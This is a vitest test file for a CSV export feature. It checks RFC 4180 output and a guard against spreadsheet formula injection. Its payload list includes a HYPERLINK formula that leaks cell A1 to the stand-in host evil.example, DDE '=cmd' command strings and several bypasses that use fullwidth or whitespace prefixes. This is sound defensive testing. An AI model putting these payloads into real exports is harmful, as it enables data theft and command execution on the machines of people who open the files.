import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvLine, csvMark, guarded } from "../../../app/features/deciding/exports/csv";
import type { Cell } from "../../../app/kernel/cell";
import { controlTexts, hostileTexts } from "../../support/hostile-texts";
import { cellsBySemicolon, readCsv, unguarded } from "../../support/read-csv";

const file = (...records: Cell[][]) => csvMark + records.map(csvLine).join("");
const texts = [...hostileTexts, ...controlTexts];

/** Payloads that spreadsheets have run, and ways around a guard that looks at the first letter alone. */
const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "'=1+1",
  '"=1+1',
  "\uff1d1+1",
  "\uff0b1",
  "\uff20SUM(1)",
  "fine;=cmd|' /C calc'!A0;x",
  "fine;\"=cmd|' /C calc'!A0;\"",
  "fine\n=1+1",
  "fine\r\n+1",
  "fine\t-1+1",
  ";;@SUM(1)",
  "\n=1",
  "'\t=1",
];

/** A formula that is a text of digits and nothing else. */
const keptDigits = /^="[\d +\-.,:/()%eE\u00a0]*"$/;

describe("a CSV file", () => {
  it("follows RFC 4180, with a byte order mark", () => {
    expect(file(["a", 'say "hi"', null], ["x,y", "line\nend", 1.5])).toBe(
      '\ufeffa,"say ""hi""",\r\n"x,y","line\nend",1.5\r\n',
    );
  });

  it("returns every text unchanged, apart from the guard against formulas", () => {
    const [record = []] = readCsv(file([...texts, ...formulas]));
    expect(record.map(unguarded)).toEqual([...texts, ...formulas]);
    // Red with `${guarded(text)}` put twice, or with the run of apostrophes left out of `formulaStart`.
    for (const text of ["'=", "''=1", "';'=", "plain", "it's = fine", "a;b", "5 - 3"])
      expect(unguarded(guarded(text))).toBe(text);
  });

  it("leaves texts alone that are no formulas", () => {
    for (const text of ["Ada", "5 - 3", "a=b", "x; y", "one\ntwo", "it's", "2027-01-15", "RF-ABCD-EFGH", "(555) 0134"])
      expect(guarded(text)).toBe(text);
  });

  it("has no cell that begins a formula, whatever separator the reader's country uses", () => {
    for (const text of [...texts, ...formulas]) {
      const [[own = ""] = []] = readCsv(file([text]));
      expect(own.replace(keptDigits, ""), JSON.stringify(text)).not.toMatch(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
      for (const cell of cellsBySemicolon(file(["first", text, "last"])))
        expect(cell, JSON.stringify(text)).not.toMatch(/^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
    }
  });

  it("is safe for any random text", () => {
    const sign = fc.constantFrom("=", "+", "-", "@", "'", '"', ";", ",", "\t", "\n", "\r", " ", "a", "1", "\uff1d");
    const typed = fc.array(fc.oneof(sign, fc.string({ unit: "grapheme", maxLength: 3 })), { maxLength: 12 });
    fc.assert(
      fc.property(fc.array(typed, { minLength: 1, maxLength: 4 }), (pieces) => {
        const cells = pieces.map((piece) => piece.join(""));
        const [record = []] = readCsv(file(cells));
        expect(record.map(unguarded)).toEqual(cells);
        for (const cell of record)
          expect(cell.replace(keptDigits, "")).not.toMatch(/^[ \u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/);
        for (const cell of cellsBySemicolon(file(["first", ...cells])))
          expect(cell).not.toMatch(/^[ "\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
      }),
      { numRuns: 2000 },
    );
  });

  // Red when such a text goes out bare, or with the guard's apostrophe.
  it.each(["02139", "+49 30 1234567", "(555) 0134", "3/4", "1-2", "1E5", "-5", "1234567890123456", "50%"])(
    "keeps the text %s letter by letter in a spreadsheet",
    (text) => {
      expect(readCsv(file([text]))).toEqual([[`="${text}"`]]);
    },
  );

  it("writes numbers as numbers, and days as days", () => {
    expect(file([-5, 0, 1850.5, -0.25, "2027-01-15", "2027-01", "2026-11-27 14:38:18"])).toBe(
      "\ufeff-5,0,1850.5,-0.25,2027-01-15,2027-01,2026-11-27 14:38:18\r\n",
    );
  });
});
